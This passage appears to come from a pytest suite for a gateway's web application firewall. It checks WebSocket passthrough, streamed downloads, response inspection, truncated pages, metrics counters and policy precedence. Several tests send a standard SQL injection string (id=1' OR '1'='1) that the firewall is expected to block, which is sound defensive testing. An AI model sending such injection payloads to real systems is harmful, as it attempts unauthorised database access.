	assert site.get(f"{base}?q=1").status == 401
	assert preflight(gw, attack, site=site).status < 300


def test_websockets_pass(gw, site):
	with Scripted(echo_frames) as upstream:
		base = site.guard(upstream.port)
		with gw.connect(site) as connection:
			connection.start("GET", base, {**BROWSER, **UPGRADE})
			assert connection.read_head().status == 101
			connection.send(frame(b"hello", mask=True))
			assert read_frame(connection)[1] == b"hello"
			assert upstream.errors == []


def test_downloads_are_not_held_back(gw, site):
	got = threading.Event()

	def script(connection):
		connection.take_until(b"\r\n\r\n")
		connection.send(b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 10\r\n\r\n01234")
		assert got.wait(20)
		connection.send(b"56789")

	with Scripted(script) as upstream:
		base = site.guard(upstream.port)
		with gw.connect(site) as connection:
			connection.start("GET", base, BROWSER)
			connection.read_head()
			assert connection.take(5) == b"01234"
			got.set()
			assert connection.take(5) == b"56789"
		assert upstream.errors == []


@pytest.mark.parametrize("size", [0, 10, 524288, 524289, 3_000_000])
def test_pages_of_any_length_arrive_whole(gw, site, size):
	page = (b"<p>lorem ipsum</p>\n" * (size // 19 + 1))[:size]
	with SideService(plain(200, [("Content-Type", "text/html")], page)) as upstream:
		answer = site.get(site.guard(upstream.port))
		assert answer.status == 200
		assert answer.body == page
		assert answer.header("Content-Length") == str(size)


def test_what_lies_behind_the_beginning_of_a_page_is_not_looked_at(gw, site):
	with SideService(plain(200, [("Content-Type", "text/html")], b"<p>x</p>\n" * 100_000 + LEAK)) as upstream:
		assert site.get(site.guard(upstream.port)).status == 200


def test_responses_need_not_be_inspected(gw, site):
	site.set("inspect_responses", False)
	with SideService(plain(200, [("Content-Type", "text/html")], LEAK)) as upstream:
		answer = site.get(site.guard(upstream.port), {"Accept-Encoding": "gzip"})
		assert answer.body == LEAK
		assert upstream.asked[0].header("Accept-Encoding") == "gzip"


def test_a_page_that_breaks_off_is_no_page(gw, site):
	def script(connection):
		connection.take_until(b"\r\n\r\n")
		connection.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 100\r\n\r\n<p>")

	with Scripted(script) as upstream:
		assert site.get(site.guard(upstream.port)).status == 502


def test_decisions_are_counted(gw, site, backend):
	before = count(gw, "sluice_waf_requests_total", action="blocked", phase="2")
	base = site.guard(backend)
	assert is_blocked(site.get(f"{base}?id=1'%20OR%20'1'='1"))
	assert site.get(base).status == 200
	assert count(gw, "sluice_waf_requests_total", action="blocked", phase="2") == before + 1
	found = outcomes(gw, site.guard.attachment)
	assert found[site.guard.route.name, "blocked"] == 1
	assert found[site.guard.route.name, "passed"] == 2


def test_a_narrower_one_replaces_a_wider_one(gw, site, backend):
	wide = gw.attach("Waf", {}, to=site)
	base = site.guard(backend)
	assert is_blocked(site.get(f"{base}?id=1'%20OR%20'1'='1"))
	assert outcomes(gw, wide).get((site.name, "blocked"), 0) == 0
	gw.change_policy(site.guard.attachment, {"enable": False})
	assert is_blocked(site.get(f"{base}?id=1'%20OR%20'1'='1"))
	assert outcomes(gw, wide)[site.name, "blocked"] == 1


def test_a_dry_run_does_not_judge(gw, site, backend):
	base = site.guard(backend)
	answer = gw.ask("POST", "/api/v1/trace", {"method": "GET", "url": f"http://gw.test:{site.port}{base}?q=1"})
	assert "Waf" in json.dumps(answer)
	assert "NotJudged" in json.dumps(answer)
